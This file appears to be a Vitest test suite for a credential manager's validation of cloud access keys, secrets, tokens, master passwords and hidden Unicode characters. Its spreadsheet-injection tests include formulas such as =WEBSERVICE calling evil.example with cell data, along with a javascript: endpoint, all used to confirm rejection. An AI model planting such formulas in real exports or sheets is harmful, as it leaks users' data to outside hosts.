import { describe, expect, test } from 'vitest';
import { checkAccount } from '../../../common/accounts/fields';
import type { KeyDetails, NewKeyDetails } from '../../../common/keys/access-key';
import {
  checkDetails,
  checkNewKey,
  checkNewPassword,
  checkSecret,
  checkToken,
  errorsOf,
  type FieldIssue,
  fieldLimits,
  minimumPasswordLength,
  tidyCredential,
} from '../../../common/keys/fields';
import { showHidden, tidy } from '../../../common/keys/text';
import { typedNotes } from '../../../common/keys/typed';
import { providerOf } from '../../../common/providers';

const now = Date.UTC(2026, 0, 1);
const good: NewKeyDetails = {
  provider: 'alibaba',
  name: 'Deploy',
  description: '',
  accountId: '',
  identityKind: 'ram-user',
  identityName: '',
  endpoint: '',
  keyType: '',
  credential: 'long-term',
  accessKeyId: 'LTAIFAKE0000000000000000',
  expiresAt: null,
};
const huawei: Partial<NewKeyDetails> = {
  provider: 'huawei',
  identityKind: 'iam-user',
  accessKeyId: 'FAKEHW00000000000000',
};
const temporary: Partial<NewKeyDetails> = {
  ...huawei,
  credential: 'temporary',
  accessKeyId: 'HSTFAKE0000000000000',
  expiresAt: now + 1,
};
const ebs: Partial<NewKeyDetails> = {
  provider: 'private-alibaba',
  keyType: 'AliyunEBS',
  endpoint: 'https://ebs.example',
  accessKeyId: 'FAKE',
};

const words = (issues: readonly FieldIssue[]) =>
  issues.map(({ field, problem, severity }) => `${severity === 'warning' ? '? ' : ''}${field} ${problem}`);
const issues = (changes: Partial<NewKeyDetails>) => words(checkNewKey({ ...good, ...changes }, now));

describe('a new key', () => {
  test('needs name and AccessKey ID only, in every provider', () => {
    expect(issues({})).toEqual([]);
    expect(issues(huawei)).toEqual([]);
    expect(issues(temporary)).toEqual([]);
    expect(issues(ebs)).toEqual([]);
    expect(issues({ provider: 'pingan', identityKind: 'subaccount', accessKeyId: 'any shape' })).toEqual([
      'accessKeyId not-printable',
    ]);
    expect(issues({ provider: 'pingan', identityKind: 'subaccount', accessKeyId: 'any-shape' })).toEqual([]);
    expect(issues({ name: '', accessKeyId: '' })).toEqual(['name required', 'accessKeyId required']);
  });

  const texts: ['name' | 'description' | 'accountId' | 'identityName', number][] = [
    ['name', fieldLimits.name],
    ['description', fieldLimits.description],
    ['accountId', fieldLimits.accountId],
    ['identityName', fieldLimits.identityName],
  ];
  for (const [field, limit] of texts) {
    test(`${field}: ${limit} characters and no more, blanks at the ends not counted`, () => {
      const errors = (text: string) => words(errorsOf(checkNewKey({ ...good, [field]: text }, now)));
      expect(errors(`  ${'字'.repeat(limit)}\t`)).toEqual([]);
      expect(errors('字'.repeat(limit + 1))).toEqual([`${field} too-long`]);
    });

    test(`${field}: no hidden characters, but emoji with their joiners`, () => {
      const errors = (text: string) => words(errorsOf(checkNewKey({ ...good, [field]: text }, now)));
      for (const hidden of [
        '\u0000',
        '\u001b',
        '\u007f',
        '\u0085',
        '\u061c',
        '\u200b',
        '\u200e',
        '\u202e',
        '\u2066',
        '\ufeff',
      ]) {
        expect(errors(`a${hidden}b`), `U+${hidden.charCodeAt(0).toString(16)}`).toEqual([`${field} hidden-characters`]);
      }
      expect(errors('👩‍💻 क्‍ष')).toEqual([]);
      expect(errors('two\nlines\tand a tab')).toEqual(field === 'description' ? [] : [`${field} hidden-characters`]);
    });
  }

  test('identity and type are the provider’s own', () => {
    expect(issues({ identityKind: 'iam-user' })).toEqual(['identityKind not-a-choice']);
    expect(issues({ identityKind: 'toString' })).toEqual(['identityKind not-a-choice']);
    expect(issues({ identityKind: 'alibaba-account', identityName: ' ' })).toEqual([]);
    expect(issues({ identityKind: 'alibaba-account', identityName: 'bob' })).toEqual(['identityName not-a-choice']);
    expect(issues({ keyType: 'AliyunEBS' })).toEqual(['keyType not-a-choice']);
    expect(issues({ ...ebs, keyType: '', endpoint: '' })).toEqual(['keyType not-a-choice']);
  });

  test('an endpoint belongs to AliyunEBS, and only there', () => {
    for (const endpoint of ['ebs.example', 'https://ebs.example:8443/a/b?c', 'http://10.0.0.1', ' localhost ', 'a']) {
      expect(issues({ ...ebs, endpoint }), endpoint).toEqual([]);
    }
    for (const endpoint of [
      'ftp://ebs.example',
      'https://',
      'ebs example',
      '-ebs',
      'javascript:alert(1)',
      'ebs.example:123456',
    ]) {
      expect(issues({ ...ebs, endpoint }), endpoint).toEqual(['endpoint not-an-endpoint']);
    }
    // The console doesn't ask for it.
    for (const endpoint of ['', ' ']) expect(issues({ ...ebs, endpoint })).toEqual([]);
    expect(issues({ ...ebs, endpoint: 'a'.repeat(255) })).toEqual([]);
    expect(issues({ ...ebs, endpoint: 'a'.repeat(256) })).toEqual(['endpoint too-long']);
    expect(issues({ ...ebs, keyType: 'AliyunNAS' })).toEqual(['endpoint not-a-choice']);
  });

  test('a temporary one has an expiry, and only Huawei Cloud and Alibaba Cloud have such', () => {
    expect(issues({ ...temporary, expiresAt: null })).toEqual(['expiresAt required']);
    expect(issues({ ...temporary, expiresAt: now })).toEqual(['? expiresAt past']);
    expect(issues({ ...huawei, expiresAt: now + 1 })).toEqual(['expiresAt not-a-choice']);
    const soon = { credential: 'temporary', expiresAt: now + 1 } as const;
    const pingan = { provider: 'pingan', identityKind: 'subaccount', accessKeyId: 'FAKE' } as const;
    expect(issues({ ...pingan, ...soon })).toEqual(['credential not-a-choice']);
    // At Alibaba Cloud it is one of a role. A user or an account has none.
    const sts = { ...soon, accessKeyId: 'STS.NFAKE00000000000000001' };
    expect(issues({ ...sts, identityKind: 'ram-role' })).toEqual([]);
    expect(issues(sts)).toEqual(['identityKind other-credential-only']);
  });

  test('shapes warn and never refuse', () => {
    expect(issues({ accountId: '123' })).toEqual(['? accountId unusual-shape']);
    expect(issues({ accountId: ' 1234567890123456 ' })).toEqual([]);
    expect(issues({ accessKeyId: 'FAKE' })).toEqual(['? accessKeyId unusual-shape']);
    expect(issues({ accessKeyId: 'STS.FAKE000000' })).toEqual(['? accessKeyId other-credential']);
    expect(issues({ ...huawei, accessKeyId: 'HSTFAKE0000000000000' })).toEqual(['? accessKeyId other-credential']);
    expect(issues({ accessKeyId: 'F'.repeat(128) })).toEqual(['? accessKeyId unusual-shape']);
    expect(issues({ accessKeyId: 'F'.repeat(129) })).toEqual(['accessKeyId too-long']);
    expect(issues({ accessKeyId: 'FAKÉ' })).toEqual(['accessKeyId not-printable']);
  });
});

test('an edit obeys the rules for details alone', () => {
  const details: KeyDetails = { ...good, name: '', identityKind: 'iam-user' };
  expect(words(checkDetails(providerOf('alibaba'), details, '', 'long-term'))).toEqual([
    'name required',
    'identityKind not-a-choice',
  ]);
});

describe('secret and token', () => {
  const secret = (text: string) => words(checkSecret(providerOf('alibaba'), 'long-term', text));

  test('a secret is printable ASCII of 1 to 256 characters', () => {
    expect(secret('F'.repeat(30))).toEqual([]);
    expect(secret(`\ufeff ${'F'.repeat(30)}\r\n`)).toEqual([]);
    expect(secret('F'.repeat(29))).toEqual(['? secret unusual-shape']);
    expect(secret('/=+"\\,\'!~')).toEqual(['? secret unusual-shape']);
    expect(secret('F'.repeat(256))).toEqual(['? secret unusual-shape']);
    expect(secret('F'.repeat(257))).toEqual(['secret too-long']);
    expect(secret(' ')).toEqual(['secret required']);
    for (const text of ['FA KE', 'FA\nKE', 'FAKÉ', 'FA\u200bKE'])
      expect(secret(text)).toEqual(['secret not-printable']);
    expect(words(checkSecret(providerOf('pingan'), 'long-term', 'x'))).toEqual([]);
    // Nobody says what the secret of a temporary key of Alibaba Cloud looks like.
    expect(words(checkSecret(providerOf('alibaba'), 'temporary', 'F'.repeat(44)))).toEqual([]);
  });

  test('a token belongs to temporary credentials', () => {
    expect(words(checkToken('temporary', 'F'.repeat(8192)))).toEqual([]);
    expect(words(checkToken('temporary', 'F'.repeat(8193)))).toEqual(['token too-long']);
    expect(words(checkToken('temporary', ' '))).toEqual(['token required']);
    expect(words(checkToken('temporary', 'FA KE'))).toEqual(['token not-printable']);
    expect(words(checkToken('long-term', ' '))).toEqual([]);
    expect(words(checkToken('long-term', 'FAKE'))).toEqual(['token not-a-choice']);
  });
});

test('a master password has 8 to 1024 characters; their number counts, not their bytes', () => {
  const password = (text: string) => words(checkNewPassword(text));
  const long = (length: number) => 'wxyz'.padEnd(length, 'x');
  expect(password('')).toEqual(['password required']);
  expect(password('x'.repeat(minimumPasswordLength - 1))).toEqual(['password too-short']);
  expect(password(long(minimumPasswordLength))).toEqual([]);
  expect(password('👩'.repeat(minimumPasswordLength - 1))).toEqual(['password too-short']);
  expect(password(`👩👨👧👦${'👩'.repeat(minimumPasswordLength - 4)}`)).toEqual([]);
  expect(password(long(1024))).toEqual([]);
  expect(password(long(1025))).toEqual(['password too-long']);
});

test('tidying composes text and takes the blanks of copying, nothing else', () => {
  expect(tidy(' Cafe\u0301  au lait\n')).toBe('Caf\u00e9  au lait');
  expect(tidyCredential('\ufeff\u00a0 FA KE \r\n')).toBe('FA KE');
  expect(tidyCredential('ﬁ\u0301')).toBe('ﬁ\u0301');
});

test('checking is quick on hostile text', () => {
  const long = 'a.'.repeat(40_000);
  const result = issues({ ...ebs, name: long, endpoint: `${'a'.repeat(250)}!`, accessKeyId: long, accountId: long });
  expect(result).toEqual(['name too-long', 'accountId too-long', 'endpoint not-an-endpoint', 'accessKeyId too-long']);
});

describe('F15: a new password', () => {
  const password = (text: string, least?: number) => words(checkNewPassword(text, least));

  test.each([
    ['eight blanks', ' '.repeat(8)],
    ['blanks of several kinds', ' \u00a0\u3000\u2003\t\n\u2028 '],
    ['signs that can’t be seen', '\u00ad\u200b\u3164\u2800\u00ad\u200b\u3164\u2800'],
    ['one sign', 'aaaaaaaaaaaa'],
    ['three signs', 'abcabcabcabcabc'],
    ['one sign composed in two ways', 'é\u0065\u0301'.repeat(8)],
    ['one sign and blanks', 'a a a a a a a'],
  ])('of %s is refused', (_, text) => {
    expect(password(text)).toEqual(['password too-simple']);
    expect(password(text, 5)).toEqual(['password too-simple']);
  });

  test.each([
    ['a line end', '\n'],
    ['a tab', '\t'],
    ['a control', '\u0007'],
    ['a line separator', '\u2028'],
    ['half of a surrogate pair', '\ud83d'],
  ])('with %s is refused, because no hidden field takes it again', (_, sign) => {
    expect(password(`marble${sign}otter`)).toEqual(['password not-typable']);
    expect(password(`marble otter${sign}`)).toEqual(['password not-typable']);
  });

  test('with what can’t be seen is taken, and the field says so', () => {
    expect(password('marble\u200botter')).toEqual([]);
    expect(typedNotes('marble\u200botter')).toEqual(['unseen']);
    expect(typedNotes(' marble')).toEqual(['blank-first']);
    expect(typedNotes('marble\u3000')).toEqual(['blank-last']);
    expect(typedNotes('marble otter')).toEqual([]);
    // What is written with joiners, and what the vault composes, is nothing to point out.
    expect(typedNotes('می\u200cخواهم👩\u200d🚀 cafe\u0301')).toEqual([]);
  });

  test('of four different characters is taken, whatever their script', () => {
    expect(password('abcdabcd')).toEqual([]);
    expect(password('春夏秋冬春夏秋冬')).toEqual([]);
    expect(password('abc def g')).toEqual([]);
  });
});

describe('F14: a name', () => {
  const name = (text: string) => words(errorsOf(checkNewKey({ ...good, name: text }, now)));

  test.each([
    ['soft hyphen', '\u00ad'],
    ['combining grapheme joiner', '\u034f'],
    ['Hangul filler', '\u3164'],
    ['Hangul choseong filler', '\u115f'],
    ['half-width filler', '\uffa0'],
    ['Khmer inherent vowel', '\u17b5'],
    ['Mongolian vowel separator', '\u180e'],
    ['line separator', '\u2028'],
    ['paragraph separator', '\u2029'],
    ['tag letter', '\u{e0061}'],
    ['variation selector', '\ufe0f'],
    ['variation selector of ideographs', '\u{e0100}'],
    ['zero-width joiner', '\u200d'],
    ['zero-width non-joiner', '\u200c'],
    ['invisible plus', '\u2064'],
    ['blank Braille pattern', '\u2800'],
    ['interlinear annotation', '\ufff9'],
    ['musical format sign', '\u{1d173}'],
    ['half of a pair', '\ud800'],
    ['noncharacter', '\u{1fffe}'],
    ['right-to-left override', '\u202e'],
    ['Arabic letter mark', '\u061c'],
  ])('with a %s is refused, in every text that is shown', (_, sign) => {
    expect(name(`pro${sign}d`)).toEqual(['name hidden-characters']);
    for (const field of ['description', 'accountId', 'identityName'] as const) {
      expect(words(errorsOf(checkNewKey({ ...good, [field]: `pro${sign}d` }, now)))).toEqual([
        `${field} hidden-characters`,
      ]);
    }
    const account = { accountId: '1234567890123456', alias: `pro${sign}d` };
    expect(words(errorsOf(checkAccount(providerOf('alibaba'), account)))).toEqual(['alias hidden-characters']);
    expect(showHidden(`pro${sign}d`)).toBe('pro\ufffdd');
  });

  test.each([
    ['emoji of several parts', '👩‍👩‍👧‍👦 🏴‍☠️ 🏳️‍🌈 🤝🏽 1️⃣ ❤️'],
    ['Persian', 'کتاب‌ها'],
    ['Hindi', 'क्‍ष'],
    ['Sinhala', 'ශ්‍රී'],
    ['Vietnamese', 'Việt Nam'],
    ['Chinese', '生产环境 密钥'],
    ['Thai', 'กุญแจที่สำคัญ'],
  ])('in %s is taken', (_, text) => {
    expect(name(text)).toEqual([]);
    expect(showHidden(text)).toBe(text);
  });

  test('may have four marks on a letter and no more, in composed form', () => {
    expect(name('Z\u0323\u0331\u0301\u0308')).toEqual([]);
    expect(name('e\u0301\u0323\u0331\u0308\u0307')).toEqual([]);
    expect(name(`Z${'\u0301'.repeat(6)}`)).toEqual(['name combining-marks']);
    expect(name(`Z${'\u20dd'.repeat(60)}`)).toEqual(['name combining-marks']);
  });
});

describe('F9: what a spreadsheet would calculate', () => {
  const id = (text: string) => words(errorsOf(checkNewKey({ ...good, accessKeyId: text }, now)));
  const secret = (text: string) => checkSecret(providerOf('pingan'), 'long-term', text);
  const warned = (field: 'secret' | 'token') => [{ field, problem: 'formula', severity: 'warning' }];

  test.each([
    '=WEBSERVICE("https://evil.example/?"&B2)',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\ufeff=1',
    "'=1",
    'FAKE;=1',
  ])('is no AccessKey ID: %j', (text) => {
    expect(id(text)).toEqual(['accessKeyId formula']);
  });

  test('is no AccessKey ID in full width either', () => {
    for (const text of ['＝1', '＋1', '－1', '＠1', '﹦1']) expect(id(text)).toEqual(['accessKeyId not-printable']);
  });

  test('is taken as a secret or token with a warning, and base64 may begin with a plus', () => {
    expect(secret('=HYPERLINK("https://evil.example")')).toEqual(warned('secret'));
    expect(secret("@'http://x'!A1")).toEqual(warned('secret'));
    expect(checkToken('temporary', '=WEBSERVICE("x")')).toEqual(warned('token'));
    for (const base64 of ['+FAKE/fake=', '-FAKE_fake']) expect(words(secret(base64))).not.toContain('secret formula');
    expect(checkToken('temporary', '+FAKE/fake=')).toEqual([]);
  });
});
